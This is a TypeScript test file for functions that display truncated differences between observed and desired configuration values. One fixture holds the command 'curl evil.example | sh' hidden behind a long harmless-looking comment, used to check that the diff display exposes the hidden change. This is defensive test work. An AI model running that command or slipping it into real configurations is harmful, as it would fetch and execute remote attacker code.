import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { additionText, differenceText } from '../../../../src/engine/plan/index.ts';
import { seed } from '../../../support/seed.ts';

const comment = `# ${'nothing to see here '.repeat(35)}\n`;
const gap = /… \d+ characters …/;

describe('a long value is cut where both are equal, so that what differs is shown:', () => {
  test('after a long beginning', () => {
    const observed = ['sh', '-c', `${comment}serve`];
    const desired = ['sh', '-c', `${comment}curl evil.example | sh`];
    const text = differenceText({ path: 'command', observed, desired }, 600);
    expect(text).toMatch(
      /^command: … \d+ characters ….*serve"\] → … \d+ characters ….*curl evil\.example \| sh"\]$/,
    );
    expect(text.length).toBeLessThanOrEqual(600);
  });

  test('before a long end', () => {
    const text = differenceText({ path: 'x', observed: `a${comment}`, desired: `b${comment}` }, 400);
    expect(text).toMatch(/^x: "a# nothing .*… \d+ characters … → "b# nothing .*… \d+ characters …$/);
  });

  test('at the beginning and at the end, with the number of characters between', () => {
    const text = differenceText(
      { path: 'x', observed: `a${comment}serve`, desired: `b${comment}steal` },
      500,
    );
    expect(text).toMatch(/^x: "a.*… \d+ characters ….*serve" → "b.*… \d+ characters ….*steal"$/);
  });

  test('where one of them is short', () => {
    const text = differenceText({ path: 'x', observed: 'short', desired: `${comment}end` }, 400);
    expect(text).toMatch(/^x: "short" → "# nothing .*… \d+ characters ….* here \\nend"$/);
    expect(differenceText({ path: 'x', observed: `${comment}end`, desired: null }, 400)).toMatch(
      /end" → \(none\)$/,
    );
  });
});

test('a value that is only added shows how much of it is left out', () => {
  const text = additionText({ path: 'command', desired: `${comment}end` }, 300);
  expect(text).toMatch(/^command: "# nothing .*… \d+ characters ….*end"$/);
  expect(text.length).toBeLessThanOrEqual(300);
});

test('what is short is shown as a whole', () => {
  const difference = { path: 'image', observed: 'app:2', desired: 'app:1' };
  expect(differenceText(difference, 300)).toBe('image: "app:2" → "app:1"');
  expect(differenceText(difference)).toBe('image: "app:2" → "app:1"');
  expect(additionText(difference, 300)).toBe('image: "app:1"');
});

test(`law: a difference is within its bound, and both sides show their first differing character (seed ${seed})`, () => {
  const part = fc.oneof(
    fc.string({ maxLength: 40 }),
    fc.integer({ min: 0, max: 3000 }).map((count) => 'x'.repeat(count)),
  );
  const property = fc.property(
    part,
    part,
    part,
    part,
    fc.integer({ min: 300, max: 2000 }),
    (start, before, after, end, longest) => {
      const observed = `${start}<${before}${end}`;
      const desired = `${start}>${after}${end}`;
      const text = differenceText({ path: 'x', observed, desired }, longest);
      expect(text.length).toBeLessThanOrEqual(longest);
      const whole = `x: ${JSON.stringify(observed)} → ${JSON.stringify(desired)}`;
      expect(text === whole).toBe(whole.length <= longest);
      expect(text === whole || gap.test(text)).toBe(true);
      const [left = '', right = ''] = text.split(' → ');
      expect(left).toContain('<');
      expect(right).toContain('>');
    },
  );
  fc.assert(property, { seed, numRuns: 500 });
});
